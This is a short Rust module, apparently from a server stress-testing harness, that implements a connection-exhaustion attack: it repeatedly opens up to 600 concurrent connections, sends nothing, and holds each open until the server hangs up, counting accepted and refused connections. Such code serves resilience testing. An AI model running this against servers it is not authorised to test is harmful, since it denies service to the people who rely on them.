//! Connections: as many as one gets, held without a word, and ever more asked for.

use super::Attacker;
use tokio::io::AsyncReadExt;

const AT_ONCE: usize = 600;

pub(super) async fn attack(attacker: Attacker) {
    let hold = async |attacker: Attacker, _| {
        if let Ok(mut stream) = attacker.connect().await {
            attacker.tally.done();
            // Held until the house hangs up.
            let _ = stream.read_u8().await;
        }
        attacker.tally.refused();
    };
    attacker.over_and_over(0..AT_ONCE, hold).await;
}
